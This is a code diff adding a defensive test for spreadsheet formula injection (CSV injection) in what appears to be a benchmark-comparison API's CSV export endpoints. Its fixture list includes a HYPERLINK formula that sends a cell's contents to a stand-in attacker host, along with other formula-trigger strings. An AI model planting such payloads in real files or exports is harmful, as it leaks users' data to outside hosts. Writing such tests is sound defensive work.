@@ -184,3 +184,47 @@ def test_exports_round_trip_to_the_same_figures(
         )
         side = shown["sides"][int(row["side"])]
         assert [int(x) for x in row["result_ids"].split(";")] == side["result_ids"]
+
+
+# Text a spreadsheet would run as a formula (OWASP's list of first characters).
+HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', "+1", "-cmd", "@SUM(A1:A9)"]
+# Leading tab and CR: a label is stripped on import, a job name keeps them.
+HOSTILE_JOB_NAMES = ["\tx", "\rx"]
+
+
+def test_csv_exports_neutralise_text_a_spreadsheet_would_run(
+    client: TestClient, owner: Caller, base: dict[str, Any]
+) -> None:
+    # Each later side reads fewer IOPS than the baseline: its deltas are negative numbers.
+    ids = [
+        imported(
+            client, owner, shaped(base, iops=10_000 - 1_000 * i, timestamp=1_700_000_000 + i), label=label
+        )["id"]
+        for i, label in enumerate(HOSTILE)
+    ]
+    ids += [
+        imported(client, owner, shaped(base, iops=5_000, name=name, timestamp=1_700_000_100 + i), label="ok")[
+            "id"
+        ]
+        for i, name in enumerate(HOSTILE_JOB_NAMES)
+    ]
+    as_csv = client.get(
+        f"/api/v1/compare/export?ids={','.join(map(str, ids))}&format=csv", headers=owner.headers
+    )
+    assert as_csv.status_code == 200, as_csv.text
+    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
+    # A leading ' makes the cell text in Excel, LibreOffice and Sheets; the cell is quoted in the file.
+    assert {"'" + label for label in HOSTILE} <= {row["series"] for row in rows}
+    assert {"'" + name for name in HOSTILE_JOB_NAMES} <= {row["job_name"] for row in rows}
+    for text in HOSTILE + HOSTILE_JOB_NAMES:
+        assert "\"'" + text.replace('"', '""') in as_csv.text
+    # Numbers stay numbers, negative ones too.
+    deltas = [row["delta_pct"] for row in rows if row["figure"] == "iops" and row["delta_pct"]]
+    assert any(float(delta) < 0 for delta in deltas)
+    assert all(not delta.startswith("'") for delta in deltas)
+
+    query = f"by=label&figure=iops&direction=read&ids={','.join(map(str, ids))}&format=csv"
+    grouped = client.get(f"/api/v1/compare/groups/export?{query}", headers=owner.headers)
+    assert grouped.status_code == 200, grouped.text
+    keys = {row["key"] for row in csv.DictReader(io.StringIO(grouped.text))}
+    assert {"'" + label for label in HOSTILE} <= keys
